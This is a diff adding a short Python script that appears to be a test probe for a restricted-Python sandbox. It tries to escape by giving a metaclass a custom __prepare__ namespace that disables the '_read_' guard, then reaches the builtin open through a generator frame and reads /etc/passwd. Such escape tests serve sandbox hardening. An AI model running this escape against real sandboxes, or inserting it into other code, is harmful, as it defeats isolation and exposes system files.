@@ -1,0 +1,37 @@
+# tries: a metaclass of a metaclass answers for __prepare__
+# stops: 1 2 3 4
+def use(opener):
+    print("REACHED")
+    if "root:" in opener("/etc/passwd").read():
+        print("ESCAPED")
+
+
+def pick(frame):
+    if frame is not None:
+        print("REACHED")
+    return getattr(frame, "f_" + "builtins")["open"]
+
+
+class Space(dict):
+    def __missing__(self, name):
+        if name == "_read_":
+            return lambda o, n: o
+        raise KeyError(name)
+
+
+class MM(type):
+    def __getattr__(cls, name):
+        if name == "__prepare__":
+            return lambda *args: Space()
+        raise AttributeError(name)
+
+
+class M(type, metaclass=MM):
+    pass
+
+
+class C(metaclass=M):
+    frame = (x for x in ()).gi_frame
+
+
+use(pick(C.frame))
